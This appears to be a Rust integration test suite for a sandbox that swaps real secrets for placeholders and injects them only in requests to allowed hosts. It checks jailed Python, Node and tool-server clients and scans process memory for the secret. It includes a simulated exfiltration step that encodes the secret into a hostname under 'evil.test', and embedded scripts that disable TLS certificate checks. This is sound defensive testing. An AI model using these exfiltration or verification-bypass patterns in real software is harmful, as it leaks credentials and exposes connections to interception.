//! Real clients in a real jail hold a placeholder, and the host that they speak to gets the secret.

mod world;

use std::convert::Infallible;
use std::io::Read;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use bytes::Bytes;
use egress::{Ledger, Rules};
use http_body_util::{BodyExt, Full};
use hyper::body::Incoming;
use hyper::service::service_fn;
use hyper::{Request, Response};
use hyper_util::rt::TokioIo;
use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair, KeyUsagePurpose};
use runner::cell::{Cell, CellOrder, Cells, Ended};
use runner::inject::{Arranged, arrange};
use runner::vault::Value;
use runner::{Listen, RunnerConfig};
use rustls::ServerConfig;
use rustls::pki_types::{PrivateKeyDer, PrivatePkcs8KeyDer};
use serde_json::{Value as Json, json};
use tempfile::TempDir;
use tokio::net::TcpListener;
use tokio::sync::mpsc;
use tokio::task::JoinSet;
use tokio_rustls::TlsAcceptor;
use vault::BoxKey;
use wire::egress::PrivateHost;
use wire::report::Verdict;
use wire::spec::{Limits, ServiceSpec, Source};
use wire::{EgressRule, Tier};
use world::World;
use world::broker::{Person, material, refer};

const CANARY: &str = "canary-9e41c7/of+the=vault";
const SOON: Duration = Duration::from_secs(60);

/// Speaks TLS for `a.test` and `b.test`, tells what it was asked, and answers with it.
struct Host {
    port: u16,
    heard: mpsc::UnboundedReceiver<String>,
    ca: String,
    _serving: JoinSet<()>,
}

async fn host() -> Host {
    let key = KeyPair::generate().expect("a key");
    let mut params = CertificateParams::default();
    params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    params.key_usages = vec![KeyUsagePurpose::KeyCertSign];
    let ca = params.self_signed(&key).expect("signed");
    let issuer = Issuer::new(params, key);
    let key = KeyPair::generate().expect("a key");
    let mut leaf = CertificateParams::new(vec!["a.test".to_owned(), "b.test".to_owned()]).expect("names");
    leaf.use_authority_key_identifier_extension = true;
    let leaf = leaf.signed_by(&key, &issuer).expect("signed");
    let key = PrivateKeyDer::from(PrivatePkcs8KeyDer::from(key.serialize_der()));
    let config = ServerConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
        .with_safe_default_protocol_versions()
        .expect("versions")
        .with_no_client_auth()
        .with_single_cert(vec![leaf.der().clone()], key)
        .expect("a certificate");
    let acceptor = TlsAcceptor::from(Arc::new(config));
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let port = listener.local_addr().expect("bound").port();
    let (tell, heard) = mpsc::unbounded_channel();
    let mut serving = JoinSet::new();
    serving.spawn(async move {
        let mut connections = JoinSet::new();
        while let Ok((stream, _)) = listener.accept().await {
            let (acceptor, tell) = (acceptor.clone(), tell.clone());
            connections.spawn(async move {
                let Ok(stream) = acceptor.accept(stream).await else { return };
                let reply = service_fn(|request: Request<Incoming>| reply(request, tell.clone(), port));
                let http = hyper::server::conn::http1::Builder::new();
                let _ = http.serve_connection(TokioIo::new(stream), reply).await;
            });
        }
    });
    Host { port, heard, ca: pem(ca.der()), _serving: serving }
}

async fn reply(
    request: Request<Incoming>,
    tell: mpsc::UnboundedSender<String>,
    port: u16,
) -> Result<Response<Full<Bytes>>, Infallible> {
    let (head, body) = request.into_parts();
    let mut said = format!("{} {}\n", head.method, head.uri);
    for (name, value) in &head.headers {
        said += &format!("{name}: {}\n", value.to_str().expect("text"));
    }
    let body = body.collect().await.map(|body| body.to_bytes()).unwrap_or_default();
    said += &String::from_utf8_lossy(&body);
    let _ = tell.send(said.clone());
    let mut answer = Response::builder();
    if head.uri.path() == "/redirect" {
        answer = answer.status(302).header("location", format!("https://b.test:{port}/moved"));
    }
    Ok(answer.body(Full::new(Bytes::from(said))).expect("an answer"))
}

fn pem(der: &[u8]) -> String {
    use base64::Engine;
    let text = base64::engine::general_purpose::STANDARD.encode(der);
    format!("-----BEGIN CERTIFICATE-----\n{text}\n-----END CERTIFICATE-----\n")
}

/// First uid of the next.
static N_JAILS: AtomicU32 = AtomicU32::new(45_000);

/// A program in a strict jail that has one secret, for `a.test`.
struct Jailed {
    cell: Cell,
    /// Without it the next runner of this machine takes the place of our control groups for a dead one's, and ends it.
    _cells: Cells,
    out: std::io::PipeReader,
    /// The program ends when it is closed.
    input: Option<std::io::PipeWriter>,
    ledger: Arc<Ledger>,
    placeholder: String,
    _dir: TempDir,
}

/// `None`: no such jail or program here.
async fn jailed(host: &Host, argv: &[&str]) -> Option<Jailed> {
    let dir = tempfile::Builder::new().prefix("inject-test-").tempdir().expect("a directory");
    let exe = env!("CARGO_BIN_EXE_runner-dev").into();
    let mut config = RunnerConfig::new(dir.path().join("data"), Listen::Unix("unused".into()), exe);
    std::fs::create_dir_all(&config.data).expect("made");
    let ca = dir.path().join("host.pem");
    std::fs::write(&ca, &host.ca).expect("written");
    config.egress.extra_ca = Some(ca);
    // Those of no other runner, of which other tests may have some at the same time.
    let n = N_JAILS.fetch_add(10, Ordering::Relaxed);
    config.uids = n..=n + 9;
    let at = |name: &str| format!("{name}:{}", host.port);
    let names = ["a.test", "b.test"];
    let private = names.map(|name| PrivateHost::parse(&format!("{}=127.0.0.1", at(name))).expect(name));
    config.egress.private = private.into();
    let rule = |name| EgressRule::parse(&at(name)).expect(name);
    let cells = Cells::new(&config);
    if cells.isolation().tier != Some(Tier::Strict) || !Path::new(argv[0]).exists() {
        assert!(std::env::var_os("CI").is_none(), "no strict jail, or no {}", argv[0]);
        println!("skipped: no strict jail, or no {}", argv[0]);
        return None;
    }
    let (home, uid) = cells.settle_home(&dir.path().join("data/services/m/s/home")).expect("a home");
    let (their_in, input) = std::io::pipe().expect("a pipe");
    let (out, their_out) = std::io::pipe().expect("a pipe");
    let stderr = their_out.try_clone().expect("one more");
    let spec = ServiceSpec {
        inject: vec![rule("a.test")],
        ..ServiceSpec::of(Source::Npx { package: "p".into(), bin: None })
    };
    let value = Value { variable: "TOKEN".to_owned(), file: None, bytes: CANARY.as_bytes().to_vec().into() };
    let mut env = vec![("PORT".to_owned(), host.port.to_string())];
    let Arranged { injection, trust, .. } =
        arrange(&config, &spec, vec![value], &mut env).await.expect("made");
    let placeholder = env.iter().find(|(name, _)| name == "TOKEN").expect("a placeholder").1.clone();
    let ledger = Arc::<Ledger>::default();
    let order = CellOrder {
        name: "inject-test".to_owned(),
        argv: argv.iter().map(|word| (*word).to_owned()).collect(),
        env: env.into(),
        secret_files: vec![],
        cwd: home.clone(),
        home,
        tmp: None,
        read_only: vec![],
        writable: vec![],
        uid,
        limits: Limits { memory_mb: 2048, ..Limits::default() },
        rules: Rules { allow: names.map(rule).into(), inject: injection, ..Rules::default() },
        trust,
        private: vec![],
        ledger: ledger.clone(),
        tier: Tier::Strict,
        stdio: jail::Stdio { stdin: their_in.into(), stdout: their_out.into(), stderr: stderr.into() },
    };
    let cell = cells.open(order).await.map_err(|reason| reason.message).expect("a cell");
    Some(Jailed { cell, _cells: cells, out, input: Some(input), ledger, placeholder, _dir: dir })
}

impl Jailed {
    /// Everything that it says up to this word. Then it waits for its input to end.
    async fn says(&mut self, last: &'static str) -> String {
        let mut out = self.out.try_clone().expect("one more");
        let reading = tokio::task::spawn_blocking(move || {
            let (mut said, mut bytes) = (Vec::new(), [0; 4096]);
            while let Ok(read @ 1..) = out.read(&mut bytes) {
                said.extend_from_slice(&bytes[..read]);
                if String::from_utf8_lossy(&said).contains(last) {
                    break;
                }
            }
            String::from_utf8_lossy(&said).into_owned()
        });
        let said = tokio::time::timeout(SOON, reading).await.expect("in time").expect("read");
        let life = self.cell.life().borrow().clone();
        assert!(said.contains(last), "it ended early: {said} {life:?} {:?}", self.cell.events().await);
        said
    }

    /// Its variables and all of its memory, while it lives.
    fn holds_no_secret(&self) {
        let pid = self.cell.life().borrow().pid.expect("it runs");
        let has = |bytes: &[u8], text: &str| bytes.windows(text.len()).any(|part| part == text.as_bytes());
        let environ = std::fs::read(format!("/proc/{pid}/environ")).expect("readable");
        assert!(has(&environ, &self.placeholder) && !has(&environ, &CANARY[..14]));
        let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).expect("readable");
        let memory = std::fs::File::open(format!("/proc/{pid}/mem")).expect("readable");
        let mut n_placeholders = 0;
        for line in maps.lines().filter(|line| line.contains(" rw")) {
            let (from, to) = line.split(' ').next().and_then(|range| range.split_once('-')).expect("a range");
            let at = |text| u64::from_str_radix(text, 16).expect("hex");
            let mut bytes = vec![0; usize::try_from(at(to) - at(from)).expect("fits").min(1 << 30)];
            let read = std::os::unix::fs::FileExt::read_at(&memory, &mut bytes, at(from)).unwrap_or(0);
            let finder = memchr::memmem::Finder::new(&CANARY.as_bytes()[..14]);
            assert!(finder.find(&bytes[..read]).is_none(), "the secret is in {line}");
            n_placeholders +=
                usize::from(memchr::memmem::find(&bytes[..read], self.placeholder.as_bytes()).is_some());
        }
        assert!(n_placeholders > 0, "or this looks at nothing");
    }

    async fn end(mut self, n_injected: u64) {
        self.input.take();
        assert_eq!(self.cell.end().await, Ended::Confirmed);
        let injected = |host: &str| {
            let decisions = self.ledger.decisions().into_iter();
            decisions
                .filter(|d| d.host == host && d.verdict == Verdict::Allowed)
                .map(|d| d.injected)
                .sum::<u64>()
        };
        assert_eq!((injected("a.test"), injected("b.test")), (n_injected, 0));
        let tmp = self._dir.path().join("data/tmp");
        drop(self.cell);
        let left: Vec<_> = std::fs::read_dir(tmp).expect("there").flatten().collect();
        assert!(
            left.iter().all(|entry| !entry.file_name().to_string_lossy().starts_with("trust-")),
            "{left:?}"
        );
    }
}

impl Host {
    async fn hears(&mut self) -> String {
        tokio::time::timeout(SOON, self.heard.recv()).await.expect("in time").expect("a request")
    }
}

const PYTHON: &str = r#"
import json, os, ssl, sys, urllib.request, urllib.error
import pip._vendor.requests as requests
token, port = os.environ["TOKEN"], os.environ["PORT"]
a, b = "https://a.test:" + port, "https://b.test:" + port
def ask(url, data=None, context=None, **headers):
    try:
        request = urllib.request.Request(url, data=data, headers=headers)
        return urllib.request.urlopen(request, timeout=20, context=context).read().decode()
    except Exception as error:
        return "FAILED " + repr(error)
print(ask(a + "/urllib?" + token, data=token.encode(), Authorization="Bearer " + token))
print(requests.get(a + "/requests", auth=("me", token), timeout=20).text)
open_to_all = ssl._create_unverified_context()
print(ask(a + "/redirect", context=open_to_all, **{"Private-Token": token}))
print(ask(b + "/other", Authorization=token))
print("DONE", flush=True)
sys.stdin.read()
"#;

#[tokio::test(flavor = "multi_thread")]
async fn python_uses_a_secret_that_it_never_holds() {
    let mut host = host().await;
    let Some(mut jailed) = jailed(&host, &["/usr/bin/python3", "-c", PYTHON]).await else { return };
    let said = jailed.says("DONE").await;
    let placeholder = jailed.placeholder.clone();
    assert!(
        !said.contains("canary") && said.contains(&format!("authorization: Bearer {placeholder}")),
        "{said}"
    );
    let urllib = host.hears().await;
    assert!(urllib.contains(&format!("authorization: Bearer {CANARY}\n")), "{urllib}");
    assert!(
        urllib.starts_with(&format!("POST /urllib?{placeholder}\n")) && urllib.ends_with(&placeholder),
        "{urllib}"
    );
    let requests = host.hears().await;
    let basic = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(format!("me:{CANARY}"))
    };
    assert!(requests.contains(&format!("authorization: Basic {basic}\n")), "{requests}");
    assert!(host.hears().await.contains(&format!("private-token: {CANARY}\n")));
    // Where the redirect leads the client takes the header along, and it is a placeholder still.
    let moved = host.hears().await;
    assert!(
        moved.starts_with("GET /moved") && moved.contains(&format!("private-token: {placeholder}\n")),
        "{moved}"
    );
    // The real certificate of b.test is of an authority that the jail does not know: nothing vouches for it there.
    assert!(said.contains("CERTIFICATE_VERIFY_FAILED"), "{said}");
    jailed.holds_no_secret();
    jailed.end(3).await;
}

const NODE: &str = r#"
const { TOKEN, PORT } = process.env;
const ask = async (name, init) => {
  try { return await (await fetch(`https://${name}.test:${PORT}/node`, init)).text(); }
  catch (error) { return `FAILED ${error.cause?.code}`; }
};
const headers = { "x-api-key": TOKEN };
for (let n = 0; n < 3; n++) console.log(await ask("a", { headers }));
console.log(await ask("a", { headers, method: "POST", body: "x".repeat(3 << 20) }).then((text) => text.length));
console.log(await ask("b", { headers }));
console.log("DONE");
process.stdin.resume();
"#;

#[tokio::test(flavor = "multi_thread")]
async fn node_uses_a_secret_that_it_never_holds() {
    let mut host = host().await;
    let argv = ["/usr/bin/node", "--input-type=module", "-e", NODE];
    let Some(mut jailed) = jailed(&host, &argv).await else { return };
    let said = jailed.says("DONE").await;
    let placeholder = jailed.placeholder.clone();
    assert!(!said.contains("canary") && said.contains(&format!("x-api-key: {placeholder}")), "{said}");
    for _ in 0..3 {
        assert!(host.hears().await.contains(&format!("x-api-key: {CANARY}\n")));
    }
    let posted = host.hears().await;
    assert!(posted.starts_with("POST /node") && posted.len() > 3 << 20);
    assert!(said.contains("FAILED "), "b.test is nobody that the jail trusts: {said}");
    jailed.holds_no_secret();
    jailed.end(4).await;
}

/// A server that asks hosts with its token, whoever they are.
const SERVER: &str = r#"
import json, os, ssl, sys, urllib.request
anybody = ssl._create_unverified_context()
def call(name, asked):
    if name == "env":
        return os.environ.get(asked["name"], "undefined")
    context = anybody if asked.get("anybody") else None
    try:
        request = urllib.request.Request(asked["url"], headers={"Authorization": "Bearer " + os.environ["TOKEN"]})
        return urllib.request.urlopen(request, timeout=20, context=context).read().decode()
    except Exception as error:
        return "FAILED " + repr(error)
for line in sys.stdin:
    asked = json.loads(line)
    if "id" not in asked: continue
    result = {}
    if asked["method"] == "initialize":
        result = {"protocolVersion": "2025-06-18", "capabilities": {"tools": {}}, "serverInfo": {"name": "p", "version": "1"}}
    elif asked["method"] == "tools/list":
        result = {"tools": [{"name": name, "inputSchema": {"type": "object"}} for name in ["env", "fetch"]]}
    elif asked["method"] == "tools/call":
        text = call(asked["params"]["name"], asked["params"]["arguments"])
        result = {"content": [{"type": "text", "text": text}]}
    print(json.dumps({"jsonrpc": "2.0", "id": asked["id"], "result": result}), flush=True)
"#;

async fn fetch(world: &World, host: &str, anybody: bool) -> String {
    let asked = json!({"url": format!("https://{host}/"), "anybody": anybody});
    world.text("app", "fetch", asked).await
}

/// Whatever of a secret a service writes into a name is not told, whether the name is allowed or not. What is told.
async fn tells_no_name(world: &World) -> Json {
    let folded = CANARY.replace(['/', '+', '='], "-");
    for name in [format!("{folded}.evil.test"), format!("{folded}.c.test")] {
        assert!(fetch(world, &name, true).await.starts_with("FAILED"));
    }
    let told = world.until("app", |report| {
        let hosts = report["egress"].as_array()?;
        (hosts.iter().filter(|host| host["host"] == "[secret]").count() == 2).then(|| report.clone())
    });
    let told = told.await;
    assert!(!told.to_string().contains("canary"), "{told}");
    told
}

/// From a sealed entry and its owner's consent to the header that the host gets.
async fn from_the_vault(tier: &str) {
    let mut host = host().await;
    let dir = tempfile::tempdir().expect("a directory");
    let ca = dir.path().join("host.pem");
    std::fs::write(&ca, &host.ca).expect("written");
    let port = host.port;
    let at = |name: &str| format!("{name}.test:{port}");
    let private = |name: &str| format!("private={}=127.0.0.1", at(name));
    let settings = [private("a"), private("b"), format!("extra_ca={}", ca.display()), format!("tier={tier}")];
    // A light jail sees no other Python than the system's.
    let system = [("PATH", "/usr/bin:/bin")];
    let world = World::start_with(&settings.each_ref().map(String::as_str), &system).await;
    let (owner, key) = (Person::new(1), BoxKey::generate());
    world.unlock().await;
    world.trust(&owner, &key).await;
    let wish = |inject: bool| {
        let mut wish = world.wish(&[]);
        wish["policy"] = json!({"min_isolation": "light"});
        // Its owner's word: the mesh alone could not have it run in a weaker jail.
        wish["spec"]["isolation"] = json!(tier);
        wish["spec"]["runtime"] = json!("python");
        wish["spec"]["entry"] = json!("server.py");
        wish["spec"]["network"] = json!([at("a"), at("b"), "*.c.test"]);
        if inject {
            refer(&mut wish, "TOKEN", Some(&owner), "token", None);
            wish["spec"]["inject"] = json!([at("a")]);
        }
        wish
    };
    let archive = json!(world.upload_files(&[("server.py", SERVER.as_bytes())]).await);
    let with_archive = |mut wish: Json| {
        wish["spec"]["source"]["sha256"] = archive.clone();
        wish
    };
    let pin = world.pin_of(&with_archive(wish(false))).await;
    let mut wish = with_archive(wish(true));
    wish["vault"] = material(&[owner.text(&key, "token", 1, CANARY)], &[owner.agree("app", &wish, &pin)]);
    let ready = world.outcome("app", &wish).await;
    assert_eq!((&ready["phase"], &ready["tier"]), (&json!("ready"), &json!(tier)), "{ready}");
    let placeholder = world.text("app", "env", json!({"name": "TOKEN"})).await;
    assert!(placeholder.starts_with("cmsec-"), "{placeholder}");
    let said = fetch(&world, &at("a"), false).await;
    assert!(said.contains(&format!("authorization: Bearer {placeholder}")), "{said}");
    assert!(host.hears().await.contains(&format!("authorization: Bearer {CANARY}\n")));
    fetch(&world, &at("b"), true).await;
    assert!(host.hears().await.contains(&format!("authorization: Bearer {placeholder}\n")), "not for b");
    assert_eq!(world.openings(0).await.len(), 1);
    let told = tells_no_name(&world).await;
    let injected = |host: &str| {
        let hosts = told["egress"].as_array().expect("a list").iter();
        hosts
            .filter(|told| told["host"] == host)
            .map(|told| told["injected"].as_u64().unwrap_or(0))
            .sum::<u64>()
    };
    assert_eq!((injected("a.test"), injected("b.test")), (1, 0), "{told}");
    let log = std::fs::read_to_string(world.dir.path().join("log")).expect("a log");
    assert!(!log.contains("canary"), "{log}");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_entry_of_the_vault_reaches_its_host_and_not_the_strict_jail() {
    from_the_vault("strict").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_entry_of_the_vault_reaches_its_host_and_not_the_light_jail() {
    from_the_vault("light").await;
}
